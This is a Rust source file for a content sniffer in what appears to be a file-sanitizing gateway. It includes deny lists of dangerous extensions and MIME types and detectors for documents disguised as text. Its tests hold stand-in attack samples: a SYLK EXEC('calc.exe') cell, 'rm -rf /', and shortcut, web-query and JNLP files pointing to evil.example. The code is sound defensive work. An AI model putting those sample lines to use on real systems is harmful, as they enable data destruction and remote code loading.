//! Content sniffing: what a piece of content really is, from its bytes.
//!
//! The sniffed [`Kind`] picks the sanitizer. The declared MIME type and the file name are only
//! compared with it: a mismatch is reported (`mime.type_mismatch`), and a name or declared type
//! that says executable or script removes the part whatever its bytes (CONTRACT.md's "dangerous
//! name" rule, see [`dangerous_name`] and [`dangerous_mime`]).

use crate::report::Kind;
use crate::unicode::extension;

/// Extensions that are executable or script on some desktop, or otherwise always removed.
pub const DANGEROUS_EXTENSIONS: &[&str] = &[
    "exe",
    "com",
    "scr",
    "pif",
    "cpl",
    "msi",
    "msp",
    "mst",
    "msc",
    "msix",
    "msixbundle",
    "appx",
    "appxbundle",
    "dll",
    "sys",
    "drv",
    "ocx",
    "lnk",
    "url",
    "website",
    "hta",
    "js",
    "jse",
    "mjs",
    "vbs",
    "vbe",
    "wsf",
    "wsh",
    "wsc",
    "ws",
    "sct",
    "ps1",
    "ps1xml",
    "ps2",
    "psc1",
    "psm1",
    "psd1",
    "bat",
    "cmd",
    "jar",
    "class",
    "iso",
    "img",
    "vhd",
    "vhdx",
    "one",
    "onepkg",
    "chm",
    "hlp",
    "library-ms",
    "searchconnector-ms",
    "settingcontent-ms",
    "reg",
    "scf",
    "inf",
    "ins",
    "isp",
    "application",
    "appref-ms",
    "gadget",
    "xbap",
    "xll",
    "dotm",
    "xltm",
    "potm",
    "xlam",
    "ppam",
    "ppsm",
    "sldm",
    "sh",
    "bash",
    "zsh",
    "csh",
    "ksh",
    "command",
    "app",
    "dmg",
    "pkg",
    "apk",
    "deb",
    "rpm",
    "elf",
    "bin",
    "run",
    "py",
    "pyw",
    "pyc",
    "pl",
    "rb",
    "php",
    "vb",
    "mde",
    "mda",
    "accde",
    "ade",
    "adp",
    "mdb",
    "mdw",
    "ldb",
    "cab",
    "diagcab",
    "msh",
    "msh1",
    "msh2",
    "mshxml",
    "msh1xml",
    "msh2xml",
    "hpj",
    "jnlp",
    "cer",
    "crt",
    "der",
    "pol",
    "mof",
    "grp",
    "lib",
    "cnt",
    "appcontent-ms",
    "glk",
    "theme",
    "themepack",
    "desktopthemepackfile",
];

/// Declared MIME types that are executable or script.
pub const DANGEROUS_MIME_TYPES: &[&str] = &[
    "application/x-msdownload",
    "application/x-msdos-program",
    "application/x-dosexec",
    "application/x-executable",
    "application/x-elf",
    "application/x-mach-binary",
    "application/vnd.microsoft.portable-executable",
    "application/x-ms-installer",
    "application/x-msi",
    "application/x-ole-storage-msi",
    "application/x-ms-shortcut",
    "application/x-sh",
    "application/x-shellscript",
    "application/x-csh",
    "application/x-bat",
    "application/bat",
    "application/x-powershell",
    "application/javascript",
    "application/x-javascript",
    "application/ecmascript",
    "text/javascript",
    "text/ecmascript",
    "text/jscript",
    "text/vbscript",
    "text/vbs",
    "application/x-vbscript",
    "application/hta",
    "application/x-hta",
    "application/java-archive",
    "application/x-java-archive",
    "application/x-java-applet",
    "application/x-iso9660-image",
    "application/x-apple-diskimage",
    "application/vnd.ms-htmlhelp",
    "application/x-chm",
    "application/onenote",
    "application/msonenote",
    "application/x-python",
    "text/x-python",
    "application/x-perl",
    "text/x-shellscript",
    "application/x-php",
];

/// Whether a file name's extension says executable/script. Every extension of a name is
/// considered (`invoice.pdf.exe`), trailing dots and spaces ignored.
pub fn dangerous_name(name: &str) -> bool {
    let trimmed = name.trim_end_matches(['.', ' ']).to_ascii_lowercase();
    let last = trimmed.rsplit(['/', '\\']).next().unwrap_or_default();
    match last.rsplit_once('.') {
        Some((_, ext)) => DANGEROUS_EXTENSIONS.contains(&ext),
        None => false,
    }
}

/// For a name whose extension is a macro-enabled Office template, add-in or slideshow (which
/// the dangerous-name rule removes whatever the bytes), what it is in English.
pub fn macro_enabled_name(name: &str) -> Option<&'static str> {
    let trimmed = name.trim_end_matches(['.', ' ']).to_ascii_lowercase();
    let (_, ext) = trimmed.rsplit_once('.')?;
    Some(match ext {
        "dotm" => "macro-enabled Word template (.dotm)",
        "xltm" => "macro-enabled Excel template (.xltm)",
        "potm" => "macro-enabled PowerPoint template (.potm)",
        "xlam" => "Excel add-in (.xlam)",
        "ppam" => "PowerPoint add-in (.ppam)",
        "ppsm" => "macro-enabled PowerPoint slideshow (.ppsm)",
        "sldm" => "macro-enabled PowerPoint slide (.sldm)",
        _ => return None,
    })
}

/// Whether a name has a document-looking extension followed by another one
/// (`invoice.pdf.exe`, `scan.jpg.js`).
pub fn double_extension(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    let mut parts = lower.rsplit('.');
    let _last = parts.next();
    let Some(second) = parts.next() else {
        return false;
    };
    parts.next().is_some()
        && matches!(
            second,
            "pdf"
                | "doc"
                | "docx"
                | "xls"
                | "xlsx"
                | "ppt"
                | "pptx"
                | "jpg"
                | "jpeg"
                | "png"
                | "gif"
                | "txt"
                | "zip"
                | "rtf"
                | "csv"
                | "html"
                | "htm"
        )
        && dangerous_name(name)
}

/// Whether a declared MIME type says executable/script.
pub fn dangerous_mime(declared: &str) -> bool {
    let base = mime_base(declared);
    DANGEROUS_MIME_TYPES.contains(&base.as_str())
}

/// The lower-case `type/subtype` of a Content-Type value, without parameters.
pub fn mime_base(declared: &str) -> String {
    declared
        .split(';')
        .next()
        .unwrap_or_default()
        .trim()
        .to_ascii_lowercase()
}

fn starts(b: &[u8], magic: &[u8]) -> bool {
    b.starts_with(magic)
}

fn window(b: &[u8], n: usize) -> &[u8] {
    b.get(..n.min(b.len())).unwrap_or_default()
}

fn find(hay: &[u8], needle: &[u8]) -> bool {
    !needle.is_empty() && hay.windows(needle.len()).any(|w| w == needle)
}

fn find_ci(hay: &[u8], needle: &[u8]) -> bool {
    !needle.is_empty()
        && hay
            .windows(needle.len())
            .any(|w| w.eq_ignore_ascii_case(needle))
}

/// Sniffs the kind of `bytes` from magic numbers and structure.
pub fn sniff(bytes: &[u8]) -> Kind {
    let b = bytes;
    let head = window(b, 1024);
    // Executables first: they must never be mistaken for anything else.
    if starts(b, b"MZ") || starts(b, b"\x7fELF") {
        return Kind::Executable;
    }
    if matches!(
        window(b, 4),
        [0xFE, 0xED, 0xFA, 0xCE | 0xCF] | [0xCE | 0xCF, 0xFA, 0xED, 0xFE]
    ) || starts(b, &[0xCA, 0xFE, 0xBA, 0xBE])
    {
        // Mach-O (and Java class files share CAFEBABE: both forbidden).
        return Kind::Executable;
    }
    if starts(b, b"L\0\0\0\x01\x14\x02\0") {
        return Kind::Executable; // Windows shortcut (.lnk)
    }
    if starts(b, &[0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D]) {
        return Kind::Executable; // OneNote section
    }
    if starts(b, b"ITSF") {
        return Kind::Executable; // Compiled HTML help (.chm)
    }
    if starts(b, b"#!") {
        return Kind::Script;
    }
    if find(window(b, 1024), b"%PDF-") {
        return Kind::Pdf;
    }
    if starts(b, b"PK\x03\x04") || starts(b, b"PK\x05\x06") || starts(b, b"PK\x07\x08") {
        return sniff_zip(b);
    }
    if starts(b, &[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]) {
        return sniff_ole2(b);
    }
    if starts(b, &[0x78, 0x9F, 0x3E, 0x22]) {
        return Kind::Tnef;
    }
    if starts(b, b"{\\rt") {
        return Kind::Rtf;
    }
    if starts(b, &[0x89, b'P', b'N', b'G'])
        || starts(b, &[0xFF, 0xD8, 0xFF])
        || starts(b, b"GIF87a")
        || starts(b, b"GIF89a")
        || starts(b, b"BM")
        || (starts(b, b"RIFF") && window(b, 12).get(8..12) == Some(b"WEBP"))
        || starts(b, b"II*\0")
        || starts(b, b"MM\0*")
        || starts(b, &[0, 0, 1, 0])
    {
        return Kind::Image;
    }
    if window(b, 12).get(4..8) == Some(b"ftyp") {
        // HEIC/HEIF/AVIF and MP4 family: not decoded.
        return Kind::Unsupported;
    }
    if starts(b, &[0x1F, 0x8B]) {
        return Kind::Gzip;
    }
    if b.get(257..262) == Some(b"ustar") {
        return Kind::Tar;
    }
    if starts(b, b"7z\xBC\xAF\x27\x1C")
        || starts(b, b"Rar!\x1A\x07")
        || starts(b, b"MSCF")
        || (b.get(2..5) == Some(b"-lh") || b.get(2..5) == Some(b"-lz"))
        || b.get(32769..32774) == Some(b"CD001")
        || starts(b, b"xar!")
        || starts(b, &[0xFD, b'7', b'z', b'X', b'Z', 0])
        || starts(b, b"BZh")
        || starts(b, &[0x28, 0xB5, 0x2F, 0xFD])
    {
        return Kind::ArchiveUnsupported;
    }
    if starts(b, b"%XDW") || starts(b, b"HWP Document File") {
        return Kind::Unsupported;
    }
    if b.is_empty() {
        return Kind::Text;
    }
    if looks_binary(head) {
        return Kind::Unknown;
    }
    sniff_text(b)
}

/// Text-like content: mail, HTML, SVG, calendar, script, or plain text.
fn sniff_text(b: &[u8]) -> Kind {
    let head = window(b, 4096);
    let trimmed = trim_ascii_start(strip_bom(head));
    // A message first: its body may quote a shortcut or a registry script, and it is rebuilt
    // as a new message whatever it holds.
    if looks_like_mail(trimmed) || looks_like_mhtml(trimmed) {
        return Kind::Mail;
    }
    if let Some(d) = disguise(b) {
        return d.kind;
    }
    if find_ci(head, b"<svg") && !find_ci(window(b, 512), b"<html") {
        return Kind::Svg;
    }
    for marker in [
        &b"<!doctype html"[..],
        b"<html",
        b"<head",
        b"<body",
        b"<script",
        b"<iframe",
        b"<meta",
        b"<hta:",
        b"<table",
        b"<div",
        b"<a href",
        b"<p>",
        b"<br",
        b"<img",
        b"<style",
    ] {
        if find_ci(window(trimmed, 512), marker) {
            return Kind::Html;
        }
    }
    if starts(trimmed, b"BEGIN:VCALENDAR") || starts(trimmed, b"BEGIN:VCARD") {
        return Kind::Calendar;
    }
    if starts(trimmed, b"<?xml") && find_ci(head, b"<svg") {
        return Kind::Svg;
    }
    Kind::Text
}

/// What a text that another program opens as a document or a command really is, and what the
/// gateway does with it (README, "Documents disguised as text").
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Disguise {
    /// The kind the sniffer reports for it.
    pub kind: Kind,
    /// The threat id it is reported under.
    pub threat: &'static str,
    /// What it is, in English (for the report's reason).
    pub what: &'static str,
    /// Which Office XML dialect, when it is one (rebuilt or reduced to text, not removed).
    pub office_xml: Option<OfficeXml>,
}

/// The Office XML dialects that arrive as plain XML text.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum OfficeXml {
    /// Flat OPC: a whole OOXML package in one `pkg:package` XML document (Word 2007+,
    /// Excel, PowerPoint "XML document" formats).
    FlatOpc,
    /// Word 2003 XML (WordprocessingML, `w:wordDocument`).
    Word2003,
    /// Excel 2003 XML (SpreadsheetML, `urn:schemas-microsoft-com:office:spreadsheet`).
    Excel2003,
}

/// The first 4 KB as text: UTF-16 (with a byte order mark) decoded, anything else taken
/// byte for byte (the markers looked for are ASCII).
fn head_text(b: &[u8]) -> String {
    let head = window(b, 8192);
    let units = |le: bool| -> String {
        let pairs = head.get(2..).unwrap_or_default().chunks_exact(2);
        let u16s = pairs.map(|p| match p {
            [a, c] if le => u16::from_le_bytes([*a, *c]),
            [a, c] => u16::from_be_bytes([*a, *c]),
            _ => 0,
        });
        char::decode_utf16(u16s)
            .map(|c| c.unwrap_or('\u{FFFD}'))
            .take(4096)
            .collect()
    };
    if head.starts_with(&[0xFF, 0xFE]) {
        units(true)
    } else if head.starts_with(&[0xFE, 0xFF]) {
        units(false)
    } else {
        String::from_utf8_lossy(strip_bom(window(b, 4096))).into_owned()
    }
}

/// Recognises text that Office, a browser or the Windows shell would open as something other
/// than text: Office XML documents, SYLK, web queries, shortcuts, shell and setup files. Decided
/// by content (processing instructions, first lines, sections, XML roots), never by name.
pub fn disguise(b: &[u8]) -> Option<Disguise> {
    let text = head_text(b);
    let lower = text.to_ascii_lowercase();
    let start = lower.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{FEFF}');
    let d = |kind, threat, what| {
        Some(Disguise {
            kind,
            threat,
            what,
            office_xml: None,
        })
    };
    let office = |dialect, threat, what| {
        Some(Disguise {
            kind: Kind::Ooxml,
            threat,
            what,
            office_xml: Some(dialect),
        })
    };
    // SYLK: Excel takes any file starting with `ID;` as SYLK (a CSV starting `ID,` is not).
    if text.starts_with("ID;") {
        return d(
            Kind::Unsupported,
            crate::threats::OFFICE_SYLK,
            "SYLK spreadsheet (can carry Excel 4 macro cells)",
        );
    }
    // Lines end at CR, LF or both: Windows reads a bare CR as a line end, and the text
    // sanitizer would turn it into CRLF, so the output must be judged like the input.
    let all_lines = split_lines(&lower);
    let mut lines = split_lines(start).into_iter().filter(|l| !l.is_empty());
    let first = lines.next().unwrap_or_default();
    if first.starts_with("windows registry editor version") || first == "regedit4" {
        return d(
            Kind::Script,
            crate::threats::TEXT_REGISTRY_SCRIPT,
            "registry script (.reg)",
        );
    }
    if first == "web" || first == "xlodbc" {
        let rest: Vec<&str> = lines.take(4).collect();
        if rest
            .iter()
            .any(|l| l.starts_with("http") || l.starts_with("dsn=") || *l == "1")
        {
            return d(
                Kind::Script,
                crate::threats::TEXT_WEB_QUERY,
                "Excel web or database query (.iqy/.dqy)",
            );
        }
    }
    let has_line = |want: &str| all_lines.contains(&want);
    let has_key = |key: &str| all_lines.iter().any(|l| l.starts_with(key));
    if has_line("[internetshortcut]") || has_line("[{000214a0-0000-0000-c000-000000000046}]") {
        return d(
            Kind::Script,
            crate::threats::TEXT_INTERNET_SHORTCUT,
            "internet shortcut (.url)",
        );
    }
    if has_line("[shell]") && has_key("command=") {
        return d(
            Kind::Script,
            crate::threats::TEXT_SHELL_COMMAND,
            "Windows Explorer command file (.scf)",
        );
    }
    if has_line("[version]") && has_key("signature=") && lower.contains('$') {
        return d(
            Kind::Script,
            crate::threats::TEXT_SETUP_INFORMATION,
            "setup information file (.inf)",
        );
    }
    if has_line("[desktop entry]") {
        return d(
            Kind::Script,
            crate::threats::TEXT_DESKTOP_ENTRY,
            "desktop entry (.desktop)",
        );
    }
    if !start.starts_with('<') {
        return None;
    }
    // XML: Office picks the application from `<?mso-application progid=...?>`, and detects its
    // own dialects by their root element and namespace whatever the processing instruction.
    let flat_opc = lower.contains("<pkg:package")
        || lower.contains("schemas.microsoft.com/office/2006/xmlpackage");
    let word2003 = lower.contains("<w:worddocument")
        || lower.contains("schemas.microsoft.com/office/word/2003/wordml");
    let excel2003 = lower.contains("urn:schemas-microsoft-com:office:spreadsheet");
    if flat_opc {
        return office(
            OfficeXml::FlatOpc,
            crate::threats::OFFICE_FLAT_XML,
            "Flat OPC Office XML document",
        );
    }
    if word2003 {
        return office(
            OfficeXml::Word2003,
            crate::threats::OFFICE_XML_2003,
            "Word 2003 XML document",
        );
    }
    if excel2003 && (lower.contains("<workbook") || lower.contains("<ss:workbook")) {
        return office(
            OfficeXml::Excel2003,
            crate::threats::OFFICE_XML_2003,
            "Excel 2003 XML spreadsheet",
        );
    }
    if lower.contains("<?mso-application") || lower.contains("<?mso-infopathsolution") {
        return d(
            Kind::Unsupported,
            crate::threats::OFFICE_XML_DOCUMENT,
            "Office XML document for another application (InfoPath, ...)",
        );
    }
    if lower.contains("<librarydescription")
        || lower.contains("<searchconnectordescription")
        || lower.contains("<pcsettings")
    {
        return d(
            Kind::Script,
            crate::threats::TEXT_SHELL_XML,
            "Windows shell XML (.library-ms/.searchConnector-ms/.settingcontent-ms)",
        );
    }
    if lower.contains("urn:schemas-microsoft-com:asm.v")
        && (lower.contains("<deployment")
            || lower.contains(":deployment")
            || lower.contains("<entrypoint")
            || lower.contains(":entrypoint"))
    {
        return d(
            Kind::Script,
            crate::threats::TEXT_CLICKONCE,
            "ClickOnce deployment manifest (.application/.xbap)",
        );
    }
    if lower.contains("<jnlp") {
        return d(
            Kind::Script,
            crate::threats::TEXT_JNLP,
            "Java Web Start launch file (.jnlp)",
        );
    }
    None
}

/// Trimmed lines, ending at CR, LF or CRLF.
fn split_lines(t: &str) -> Vec<&str> {
    t.split(['\r', '\n']).map(str::trim).collect()
}

/// A MIME single-file web page (`.mht`/`.mhtml`, also Word's "single file web page" saved as
/// `.doc`): a MIME header block naming a multipart type, even without mail header fields.
fn looks_like_mhtml(b: &[u8]) -> bool {
    let lower = window(b, 1024).to_ascii_lowercase();
    (lower.starts_with(b"mime-version:") || lower.starts_with(b"content-type:"))
        && find(&lower, b"multipart/")
}

fn strip_bom(b: &[u8]) -> &[u8] {
    b.strip_prefix(&[0xEF, 0xBB, 0xBF][..]).unwrap_or(b)
}

fn trim_ascii_start(b: &[u8]) -> &[u8] {
    let n = b.iter().take_while(|c| c.is_ascii_whitespace()).count();
    b.get(n..).unwrap_or_default()
}

/// Whether the start of `b` is an RFC 5322 header block with at least two well-known fields.
pub fn looks_like_mail(b: &[u8]) -> bool {
    const FIELDS: &[&[u8]] = &[
        b"from:",
        b"to:",
        b"subject:",
        b"date:",
        b"received:",
        b"return-path:",
        b"message-id:",
        b"mime-version:",
        b"content-type:",
        b"delivered-to:",
        b"reply-to:",
        b"cc:",
        b"x-",
        b"dkim-signature:",
        b"authentication-results:",
    ];
    let mut known = 0;
    for line in b.split(|&c| c == b'\n').take(40) {
        let line = line.strip_suffix(b"\r").unwrap_or(line);
        if line.is_empty() {
            break;
        }
        if line.first().is_some_and(|c| *c == b' ' || *c == b'\t') {
            continue; // folded continuation
        }
        let Some(colon) = line.iter().position(|&c| c == b':') else {
            return false;
        };
        // Obsolete syntax (RFC 5322 4.5) allows white space before the colon.
        let name = line.get(..colon).unwrap_or_default().trim_ascii_end();
        if name.is_empty() || !name.iter().all(|c| c.is_ascii_graphic()) {
            return false;
        }
        let mut lower = name.to_ascii_lowercase();
        lower.push(b':');
        if FIELDS.iter().any(|f| lower.starts_with(f)) {
            known += 1;
        }
    }
    known >= 2
}

/// Binary if it has NUL bytes or many C0 controls (ISO-2022-JP uses ESC, which is allowed).
fn looks_binary(head: &[u8]) -> bool {
    if head.starts_with(&[0xFF, 0xFE]) || head.starts_with(&[0xFE, 0xFF]) {
        return false; // UTF-16 text with BOM
    }
    if head.contains(&0) {
        return true;
    }
    let controls = head
        .iter()
        .filter(|&&c| c < 0x20 && !matches!(c, b'\n' | b'\r' | b'\t' | 0x1B | 0x0C))
        .count();
    controls * 20 > head.len().max(1)
}

/// Tells OOXML, ODF, JAR and plain ZIP apart by the member names in the central directory.
fn sniff_zip(b: &[u8]) -> Kind {
    // ODF puts an uncompressed `mimetype` member first.
    if b.get(30..38) == Some(b"mimetype") && find(window(b, 200), b"application/vnd.oasis") {
        return Kind::Odf;
    }
    if find(b, b"META-INF/MANIFEST.MF") && find(b, b".class") {
        return Kind::Executable;
    }
    if find(b, b"FixedDocumentSequence.fdseq") || find(b, b"FixedDocSeq.fdseq") {
        return Kind::Unsupported; // XPS / OpenXPS
    }
    if find(b, b"[Content_Types].xml") {
        return Kind::Ooxml;
    }
    if find(window(b, 4096), b"application/vnd.oasis.opendocument") {
        return Kind::Odf;
    }
    Kind::Zip
}

/// Tells Outlook .msg, 一太郎 and MSI apart from Office documents in an OLE2 compound file, by
/// the entries of its **root** storage (an embedded object's storage never decides the type).
/// A compound file whose directory cannot be read is judged by its directory entry names
/// (UTF-16LE) anywhere in the bytes.
fn sniff_ole2(b: &[u8]) -> Kind {
    let utf16 = |s: &str| -> Vec<u8> { s.encode_utf16().flat_map(u16::to_le_bytes).collect() };
    if let Ok(cf) = cfb::CompoundFile::open(std::io::Cursor::new(b)) {
        let root: Vec<String> = cf
            .read_root_storage()
            .map(|e| e.name().to_owned())
            .collect();
        if root
            .iter()
            .any(|n| n.starts_with("__substg1.0_") || n == "__properties_version1.0")
        {
            return Kind::Msg;
        }
        if root
            .iter()
            .any(|n| n.starts_with("JSRV_") || n == "DocumentText")
        {
            return Kind::Unsupported; // 一太郎
        }
        // MSI databases name their streams with a custom encoding; the summary info says so.
        let office = ["WordDocument", "Workbook", "Book", "PowerPoint Document"];
        if !root.iter().any(|n| office.contains(&n.as_str()))
            && (find(b, b"Windows Installer") || find(b, b"Installation Database"))
        {
            return Kind::Executable;
        }
        return Kind::Ole2;
    }
    if find(b, &utf16("__substg1.0_")) {
        return Kind::Msg;
    }
    if find(b, &utf16("JSRV_")) || find(b, &utf16("DocumentText")) {
        return Kind::Unsupported; // 一太郎
    }
    if find(b, b"Windows Installer") || find(b, b"Installation Database") {
        return Kind::Executable;
    }
    Kind::Ole2
}

/// Why content sniffed as [`Kind::Unsupported`] is not delivered, in English.
pub fn unsupported_reason(b: &[u8]) -> &'static str {
    if starts(b, b"PK") {
        "XPS document: not supported (no sanitizer rebuilds XPS)"
    } else if starts(b, b"%XDW") {
        "DocuWorks document: not supported"
    } else if starts(b, b"HWP Document File") {
        "Hangul (HWP) document: not supported"
    } else if starts(b, &[0xD0, 0xCF, 0x11, 0xE0]) {
        "Ichitaro (一太郎) document: not supported"
    } else if window(b, 12).get(4..8) == Some(b"ftyp") {
        "HEIC/HEIF/AVIF image or MP4 video: not supported"
    } else {
        "unsupported format"
    }
}

/// The kind a declared MIME type claims, when it claims a specific one.
pub fn kind_from_mime(declared: &str) -> Option<Kind> {
    let base = mime_base(declared);
    if dangerous_mime(&base) {
        return Some(Kind::Executable);
    }
    Some(match base.as_str() {
        "message/rfc822" | "message/global" => Kind::Mail,
        "text/plain" => Kind::Text,
        "text/html" | "application/xhtml+xml" => Kind::Html,
        "text/csv" => Kind::Csv,
        "text/calendar" | "text/vcard" | "text/x-vcard" | "text/directory" => Kind::Calendar,
        "application/pdf" | "application/x-pdf" => Kind::Pdf,
        "application/rtf" | "text/rtf" => Kind::Rtf,
        "image/svg+xml" => Kind::Svg,
        "application/zip" | "application/x-zip-compressed" => Kind::Zip,
        "application/x-tar" => Kind::Tar,
        "application/gzip" | "application/x-gzip" => Kind::Gzip,
        "application/ms-tnef" | "application/vnd.ms-tnef" => Kind::Tnef,
        "application/vnd.ms-outlook" => Kind::Msg,
        "application/msword" | "application/vnd.ms-excel" | "application/vnd.ms-powerpoint" => {
            Kind::Ole2
        }
        "application/x-7z-compressed"
        | "application/x-rar-compressed"
        | "application/vnd.rar"
        | "application/x-lzh-compressed" => Kind::ArchiveUnsupported,
        b if b.starts_with("application/vnd.openxmlformats-officedocument.")
            || b.starts_with("application/vnd.ms-word.")
            || b.starts_with("application/vnd.ms-excel.")
            || b.starts_with("application/vnd.ms-powerpoint.") =>
        {
            Kind::Ooxml
        }
        b if b.starts_with("application/vnd.oasis.opendocument.") => Kind::Odf,
        b if b.starts_with("image/") => Kind::Image,
        _ => return None,
    })
}

/// The kind a file name's extension claims, when it claims a specific one.
pub fn kind_from_extension(name: &str) -> Option<Kind> {
    if dangerous_name(name) {
        return Some(Kind::Executable);
    }
    let ext = extension(name)?;
    Some(match ext.as_str() {
        "eml" => Kind::Mail,
        "txt" | "log" | "md" => Kind::Text,
        "html" | "htm" | "xhtml" => Kind::Html,
        "csv" | "tsv" => Kind::Csv,
        "ics" | "vcs" | "vcf" => Kind::Calendar,
        "pdf" => Kind::Pdf,
        "rtf" => Kind::Rtf,
        "svg" | "svgz" => Kind::Svg,
        "zip" => Kind::Zip,
        "tar" => Kind::Tar,
        "gz" | "tgz" => Kind::Gzip,
        "dat" => return None,
        "msg" => Kind::Msg,
        "doc" | "xls" | "ppt" | "dot" | "xlt" | "pot" | "pps" => Kind::Ole2,
        "docx" | "docm" | "xlsx" | "xlsm" | "pptx" | "pptm" | "dotx" | "xltx" | "potx" | "ppsx" => {
            Kind::Ooxml
        }
        "odt" | "ods" | "odp" | "odg" | "ott" | "ots" | "otp" => Kind::Odf,
        "png" | "jpg" | "jpeg" | "jpe" | "gif" | "bmp" | "webp" | "tif" | "tiff" | "ico" => {
            Kind::Image
        }
        "7z" | "rar" | "lzh" | "lha" | "xz" | "bz2" | "zst" => Kind::ArchiveUnsupported,
        "jtd" | "jtt" | "jtdc" | "xdw" | "xbd" | "hwp" | "heic" | "heif" | "dwg" | "dxf"
        | "psd" | "jp2" | "avif" => Kind::Unsupported,
        _ => return None,
    })
}

/// Whether a claimed kind is compatible with the sniffed one (no mismatch to report).
pub fn compatible(claimed: Kind, sniffed: Kind) -> bool {
    use Kind::*;
    claimed == sniffed
        || matches!(
            (claimed, sniffed),
            // Text-like content sniffs loosely: a CSV or calendar is "text" to the sniffer, and
            // an HTML fragment may look like plain text.
            (Csv | Calendar | Html | Text | Mail, Text)
                | (Text, Html | Csv | Calendar | Mail)
                | (Html, Svg)
                | (Zip, Ooxml | Odf)
                | (Ooxml | Odf, Zip)
                | (Ole2, Msg | Unsupported)
                | (Unsupported, Ole2)
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn magic_numbers() {
        assert_eq!(sniff(b"MZ\x90\0rest"), Kind::Executable);
        assert_eq!(sniff(b"\x7fELF\x02\x01"), Kind::Executable);
        assert_eq!(sniff(b"%PDF-1.7\n"), Kind::Pdf);
        assert_eq!(sniff(b"\x89PNG\r\n\x1a\n"), Kind::Image);
        assert_eq!(sniff(b"\xff\xd8\xff\xe0"), Kind::Image);
        assert_eq!(sniff(b"{\\rtf1\\ansi"), Kind::Rtf);
        assert_eq!(sniff(b"#!/bin/sh\nrm -rf /"), Kind::Script);
        assert_eq!(sniff(b"\x1f\x8b\x08\0"), Kind::Gzip);
        assert_eq!(sniff(b"7z\xbc\xaf\x27\x1c\0"), Kind::ArchiveUnsupported);
        assert_eq!(sniff(b"\0\0\0\x18ftypheic"), Kind::Unsupported);
    }

    #[test]
    fn text_kinds() {
        assert_eq!(sniff("こんにちは\n".as_bytes()), Kind::Text);
        assert_eq!(sniff(b"<!DOCTYPE html><html>"), Kind::Html);
        assert_eq!(
            sniff(b"<svg xmlns='http://www.w3.org/2000/svg'>"),
            Kind::Svg
        );
        assert_eq!(
            sniff(b"From: a@example.jp\r\nSubject: x\r\n\r\nbody"),
            Kind::Mail
        );
        assert_eq!(sniff(b"BEGIN:VCALENDAR\r\n"), Kind::Calendar);
        assert_eq!(
            sniff(b"Subject : x\r\nContent-Type :\tmessage/rfc822\r\n\r\n"),
            Kind::Mail
        );
        // ISO-2022-JP text uses ESC sequences but is text.
        assert_eq!(sniff(b"\x1b$B$3$s$K$A$O\x1b(B\n"), Kind::Text);
    }

    #[test]
    fn dangerous_names_and_types() {
        assert!(dangerous_name("invoice.pdf.exe"));
        assert!(dangerous_name("INVOICE.EXE. . "));
        assert!(dangerous_name("run.PS1"));
        assert!(!dangerous_name("report.pdf"));
        assert!(!dangerous_name("exe"));
        assert!(double_extension("invoice.pdf.exe"));
        assert!(!double_extension("archive.tar.gz"));
        assert!(dangerous_mime("application/x-msdownload; name=a.pdf"));
        assert!(!dangerous_mime("application/pdf"));
    }

    /// Each text that another program opens as something else, with its threat id.
    const DISGUISED: &[(&str, &[u8])] = &[
        ("office.sylk", b"ID;PWXL;N;E\r\nC;X1;Y1;K0;EEXEC(\"calc.exe\")\r\nE\r\n"),
        ("text.registry_script", b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n"),
        ("text.registry_script", b"REGEDIT4\n[HKEY_CURRENT_USER\\x]\n"),
        ("text.web_query", b"WEB\r\n1\r\nhttp://evil.example/q.html\r\n"),
        ("text.web_query", b"XLODBC\r\n1\r\nDSN=x;\r\n"),
        ("text.internet_shortcut", b"[InternetShortcut]\r\nURL=file://evil.example/share/x.exe\r\n"),
        ("text.shell_command", b"[Shell]\r\nCommand=2\r\nIconFile=\\\\evil.example\\i.ico\r\n"),
        ("text.setup_information", b"[Version]\r\nSignature=\"$Windows NT$\"\r\n[DefaultInstall]\r\n"),
        ("text.desktop_entry", b"[Desktop Entry]\nType=Application\nExec=sh -c x\n"),
        ("text.shell_xml", b"<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"></libraryDescription>"),
        ("text.shell_xml", b"<?xml version=\"1.0\"?><searchConnectorDescription xmlns=\"http://schemas.microsoft.com/windows/2009/searchConnector\"/>"),
        ("text.shell_xml", b"<?xml version=\"1.0\"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>cmd.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>"),
        ("text.clickonce", b"<?xml version=\"1.0\"?><asmv1:assembly xmlns:asmv1=\"urn:schemas-microsoft-com:asm.v1\"><deployment install=\"true\"/></asmv1:assembly>"),
        ("text.jnlp", b"<?xml version=\"1.0\"?><jnlp spec=\"1.0+\" codebase=\"http://evil.example/\"></jnlp>"),
        ("office.xml_document", b"<?xml version=\"1.0\"?><?mso-application progid=\"InfoPath.Document\"?><my:f xmlns:my=\"x\"/>"),
        ("office.flat_xml", b"<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\"/>"),
        ("office.xml_2003", b"<?xml version=\"1.0\"?><w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\"/>"),
        ("office.xml_2003", b"<?xml version=\"1.0\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"><Table/></Workbook>"),
    ];

    #[test]
    fn text_that_opens_as_something_else_is_recognised_by_content() {
        for (threat, bytes) in DISGUISED {
            let d = disguise(bytes).unwrap_or_else(|| panic!("{threat}: not recognised"));
            assert_eq!(d.threat, *threat, "{}", String::from_utf8_lossy(bytes));
            assert_ne!(sniff(bytes), Kind::Text, "{threat}");
            assert_ne!(sniff(bytes), Kind::Html, "{threat}");
        }
        // A UTF-16 registry script (what regedit writes).
        let mut utf16 = vec![0xFF, 0xFE];
        utf16.extend(
            "Windows Registry Editor Version 5.00\r\n"
                .encode_utf16()
                .flat_map(u16::to_le_bytes),
        );
        assert_eq!(
            disguise(&utf16).map(|d| d.threat),
            Some("text.registry_script")
        );
        // Ordinary texts stay text.
